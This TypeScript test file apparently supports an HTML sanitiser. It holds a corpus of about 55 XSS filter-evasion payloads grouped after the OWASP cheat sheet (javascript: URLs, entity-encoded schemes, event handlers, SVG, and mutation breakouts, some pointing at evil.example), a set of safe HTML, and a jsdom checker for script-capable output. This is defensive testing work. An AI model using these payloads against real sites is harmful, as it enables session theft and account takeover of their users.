// Filter-evasion payloads for the HTML settings, one per trick, grouped the way the OWASP "XSS Filter Evasion"
// cheat sheet groups them (written for this project: links and images, the places our policy lets URLs in).
// `scriptCapable` is the independent check: it reads the cleaned HTML with jsdom and the WHATWG URL parser
// (what a browser does), not with the policy's own rule.
import { JSDOM } from 'jsdom';

export const XSS_CORPUS: Record<string, string> = {
  'plain script': '<script>window.__xss=1</script><p>hi</p>',
  'script with src': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'javascript href': '<a href="javascript:window.__xss=1">x</a>',
  'mixed case scheme': '<a href="JaVaScRiPt:window.__xss=1">x</a>',
  'unquoted, no semicolon': '<a href=javascript:window.__xss=1>x</a>',
  'grave accents': '<a href=`javascript:window.__xss=1`>x</a>',
  'decimal entities': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
  'padded decimal entities, no semicolons': '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1">x</a>',
  'hex entities, no semicolons': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A window.__xss=1">x</a>',
  'named colon entity': '<a href="javascript&colon;window.__xss=1">x</a>',
  'embedded tab': '<a href="jav\tascript:window.__xss=1">x</a>',
  'embedded encoded tab': '<a href="jav&#x09;ascript:window.__xss=1">x</a>',
  'embedded newline': '<a href="jav&#x0A;ascript:window.__xss=1">x</a>',
  'embedded carriage return': '<a href="jav&#x0D;ascript:window.__xss=1">x</a>',
  'leading control character': '<a href="&#1;javascript:window.__xss=1">x</a>',
  'leading spaces and controls': '<a href=" &#14;  javascript:window.__xss=1">x</a>',
  'null inside the scheme': '<a href="java\u0000script:window.__xss=1">x</a>',
  'vbscript': '<a href="vbscript:msgbox(1)">x</a>',
  'data html': '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>',
  'image onerror': '<img src=x onerror="window.__xss=1">',
  'image, no src': '<IMG onmouseover="window.__xss=1">',
  'image javascript src': '<IMG SRC="javascript:window.__xss=1">',
  'malformed img with script': '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  'handler without quotes': '<a onmouseover=window.__xss=1>x</a>',
  'slash instead of space': '<img/src="x"/onerror=window.__xss=1>',
  'non-alpha attribute separator': '<a href="#"/onclick="window.__xss=1">x</a>',
  'extraneous open bracket': '<<a href="#" onclick="window.__xss=1">x</a>',
  'half open tag': '<img src="x" onerror="window.__xss=1"',
  'svg onload': '<svg/onload=window.__xss=1>',
  'svg xlink href': '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">x</text></a></svg>',
  'math href': '<math><a xlink:href="javascript:window.__xss=1">x</a></math>',
  'iframe': '<iframe src="javascript:window.__xss=1"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
  'object data': '<object data="javascript:window.__xss=1"></object>',
  'embed': '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'body onload': '<body onload="window.__xss=1">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  'base href': '<base href="javascript:/">',
  'form action': '<form action="javascript:window.__xss=1"><button>go</button></form>',
  'button formaction': '<button formaction="javascript:window.__xss=1">go</button>',
  'input autofocus': '<input autofocus onfocus="window.__xss=1">',
  'details ontoggle': '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
  'style expression': '<div style="width:expression(window.__xss=1)">x</div>',
  'style url': '<div style="background:url(javascript:window.__xss=1)">x</div>',
  'style tag import': '<style>@import "javascript:window.__xss=1";</style>',
  'link stylesheet': '<link rel="stylesheet" href="javascript:window.__xss=1">',
  'template content': '<template><img src=x onerror="window.__xss=1"></template>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  'comment breakout': '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  'title breakout': '</title><img src=x onerror="window.__xss=1">',
  'textarea breakout': '<textarea><img title="</textarea><img src=x onerror=window.__xss=1>"></textarea>',
  'backslash host': '<a href="\\\\evil.example">x</a>',
  'zero-width space in scheme': '<a href="java\u200bscript:window.__xss=1">x</a>',
  'formaction on anchor': '<a href="#" formaction="javascript:window.__xss=1">x</a>',
  'srcset': '<img src="/a.png" srcset="javascript:window.__xss=1 1x">',
  'xml namespace trick': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__xss=1</x:script>',
};

/** HTML our policy must keep as it is (so the sanitiser is not simply emptying everything). */
export const SAFE_HTML: Record<string, string> = {
  'https link': '<a href="https://example.com/page">site</a>',
  'relative link': '<a href="/terms">Terms</a>',
  'mailto link': '<a href="mailto:hello@example.com">mail</a>',
  'tel link': '<a href="tel:+15551234567">call</a>',
  formatting: '<p><b>bold</b> <em>em</em> <u>u</u></p>',
};

const ALLOWED_PROTOCOLS = new Set(['http:', 'https:', 'mailto:', 'tel:']);
const ALLOWED_TAGS = new Set(['A', 'B', 'STRONG', 'I', 'EM', 'U', 'S', 'P', 'BR', 'SPAN', 'DIV', 'SMALL', 'UL', 'OL', 'LI', 'IMG', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR', 'BLOCKQUOTE']);

/** Why this HTML could run script (a handler, a script-capable element, a URL the browser would resolve to another scheme), or null. */
export function scriptCapable(html: string): string | null {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  for (const el of Array.from(document.body.querySelectorAll('*'))) {
    if (!ALLOWED_TAGS.has(el.tagName)) return `element <${el.tagName.toLowerCase()}>`;
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) return `handler ${name}`;
      if (['style', 'srcset', 'formaction', 'xlink:href', 'action', 'srcdoc'].includes(name)) return `attribute ${name}`;
      if (name === 'href' || name === 'src') {
        let protocol: string;
        try {
          protocol = new URL(attr.value, 'https://fanclub.example/').protocol;
        } catch {
          continue; // the browser cannot follow it either
        }
        if (!ALLOWED_PROTOCOLS.has(protocol)) return `${name} resolves to ${protocol}`;
      }
    }
  }
  return null;
}
